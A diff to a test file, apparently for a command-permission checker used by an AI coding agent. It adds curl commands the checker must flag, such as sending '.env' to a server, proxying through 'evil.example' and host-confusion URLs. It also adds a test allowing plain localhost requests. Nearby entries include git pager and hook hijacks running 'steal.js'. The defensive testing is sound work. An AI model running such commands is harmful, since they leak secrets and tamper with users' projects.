@@ -138,6 +138,14 @@ describe('commands', () => {
     "npm pkg set scripts.build='npm install left-pad' && npm run build",
     'env npm pkg set scripts.build=x; node --run build',
     'git config core.hooksPath evil',
+    'curl http://localhost.evil.example/',
+    'curl http://localhost@evil.example/',
+    'curl localhost:3000 evil.example',
+    'curl -d @.env localhost:3000',
+    'curl -x evil.example localhost:3000',
+    'curl -K curlrc localhost:3000',
+    'curl "localhost:$PORT"',
+    'curl -o src/a.ts localhost:3000',
     'git config --global core.pager "node steal.js"',
     "git -c diff.external='node steal.js' diff",
     'git rm -r tests',
@@ -319,6 +327,15 @@ describe('writes', () => {
   it('lets commands touch files whose names begin with a dot and that belong to nobody', () => {
     for (const command of ['sed -i s/a/b/ .gitignore', 'prettier --config .prettierrc src', 'cp a .editorconfig'])
       expect(run(command, 'auto')).toEqual({ verdict: 'allow' })
+  })
+
+  it('lets curl ask a server of the project', () => {
+    for (const command of [
+      'curl http://localhost:3000/',
+      'curl -sS -o /dev/null -w "%{http_code}" http://127.0.0.1:5173/a?b=1',
+      "curl -X POST -H 'content-type: application/json' -d '{}' localhost:3000/api | head -3",
+    ])
+      expect(run(command, 'auto'), command).toEqual({ verdict: 'allow' })
   })
 
   it('lets settings that start nothing and files that are unstaged pass', () => {
